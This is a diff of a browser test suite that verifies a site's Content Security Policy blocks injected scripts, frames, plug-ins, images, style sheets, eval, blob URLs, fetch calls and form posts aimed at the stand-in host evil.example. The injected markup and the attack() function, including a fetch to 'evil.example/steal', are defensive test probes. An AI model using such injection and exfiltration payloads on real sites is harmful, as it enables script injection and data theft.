@@ -77,58 +77,49 @@ test('the deployed policy blocks the AngularJS that Google serves beside the cap
   expect(loaded).toBe(false);
 });
 
-type Attack = {
-  what: string;
-  directive: string;
-  markup?: string;
-  act?: () => unknown;
-};
-
-/** One for each source or keyword that the policy leaves out. */
-const attacks: Attack[] = [
-  { what: 'an inline script', directive: 'script-src', markup: '<script>window.harmed = true</script>' },
-  { what: 'a foreign script', directive: 'script-src', markup: '<script src="https://evil.example/x.js"></script>' },
-  { what: 'a script in a data URL', directive: 'script-src', markup: '<script src="data:text/javascript,window.harmed=true"></script>' },
-  { what: 'a foreign base address', directive: 'base-uri', markup: '<base href="https://evil.example/">' },
-  { what: 'a foreign frame', directive: 'frame-src', markup: '<iframe src="https://evil.example/"></iframe>' },
-  { what: 'a foreign plug-in', directive: 'object-src', markup: '<object data="https://evil.example/x" type="text/html"></object>' },
-  { what: 'a foreign image', directive: 'img-src', markup: '<img src="https://evil.example/x.png?stolen" alt="">' },
-  { what: 'a foreign style sheet', directive: 'style-src', markup: '<link rel="stylesheet" href="https://evil.example/x.css">' },
-  { what: 'a call to a foreign host', directive: 'connect-src', act: () => fetch('https://evil.example/steal').catch(() => undefined) },
-  {
-    what: 'a string that is run as code',
-    directive: 'script-src',
-    act: () => void Reflect.apply(setTimeout, window, ['window.harmed = true']),
-  },
-  {
-    what: 'a script from a blob URL',
-    directive: 'script-src',
-    act: () =>
-      document.body.append(
-        Object.assign(document.createElement('script'), { src: URL.createObjectURL(new Blob(['window.harmed = true'])) }),
-      ),
-  },
-  {
-    what: 'a frame from a blob URL',
-    directive: 'frame-src',
-    act: () => {
-      const src = URL.createObjectURL(new Blob(['<script>parent.harmed = true</script>'], { type: 'text/html' }));
-      document.body.append(Object.assign(document.createElement('iframe'), { src }));
-    },
-  },
-  {
-    what: 'a form that is sent to a foreign host',
-    directive: 'form-action',
-    act: () => {
-      const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/steal', target: 'elsewhere' });
-      document.body.append(form);
-      form.submit();
-    },
-  },
+/** What stops an attack, and what is stopped, for each source or keyword that the policy leaves out. */
+const stopped = [
+  'script-src-elem stopped inline',
+  'script-src-elem stopped https://evil.example/x.js',
+  'script-src-elem stopped data',
+  'base-uri stopped https://evil.example/',
+  'frame-src stopped https://evil.example',
+  'object-src stopped https://evil.example',
+  'img-src stopped https://evil.example/x.png',
+  'style-src-elem stopped https://evil.example/x.css',
+  'connect-src stopped https://evil.example/steal',
+  'script-src stopped eval',
+  'script-src-elem stopped blob',
+  'frame-src stopped blob',
+  'form-action stopped https://evil.example/form',
 ];
 
-// The report proves that the attack took place.
-test.each(attacks)('the policy blocks $what', async ({ directive, markup = '', act }) => {
+const attacks = `
+  <script>window.harmed = true</script>
+  <script src="https://evil.example/x.js"></script>
+  <script src="data:text/javascript,window.harmed=true"></script>
+  <base href="https://evil.example/">
+  <iframe src="https://evil.example/frame"></iframe>
+  <object data="https://evil.example/plug-in" type="text/html"></object>
+  <img src="https://evil.example/x.png?stolen" alt="">
+  <link rel="stylesheet" href="https://evil.example/x.css">`;
+
+/** Runs in the page. */
+function attack(): void {
+  fetch('https://evil.example/steal').catch(() => undefined);
+  Reflect.apply(setTimeout, window, ['window.harmed = true']);
+  const blob = (content: string, type: string) => URL.createObjectURL(new Blob([content], { type }));
+  const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/form', target: 'elsewhere' });
+  document.body.append(
+    Object.assign(document.createElement('script'), { src: blob('window.harmed = true', 'text/javascript') }),
+    Object.assign(document.createElement('iframe'), { src: blob('<script>parent.harmed = true</script>', 'text/html') }),
+    form,
+  );
+  form.submit();
+}
+
+// The reports prove that the attacks took place.
+test('the policy blocks scripts, frames, styles, images, calls and forms of others, and code in texts', async () => {
   const requests: string[] = [];
   await page.context().route('https://evil.example/**', async (route) => {
     requests.push(route.request().url());
@@ -136,11 +127,11 @@ test.each(attacks)('the policy blocks $what', async ({ directive, markup = '', a
   });
   await page.route(`**${paths.about}`, async (route) => {
     const response = await route.fetch();
-    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${markup}</body>`) });
+    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${attacks}</body>`) });
   });
   await page.goto(paths.about);
-  if (act) await page.evaluate(act);
-  await waitForReport(directive);
+  await page.evaluate(attack);
+  await waitForReport(...stopped, ...new Set(stopped.map((report) => report.split(/(?:-elem)? /, 1).join())));
   expect(await page.evaluate(() => 'harmed' in window || !document.baseURI.startsWith(location.origin))).toBe(false);
   expect(requests).toEqual([]);
 });
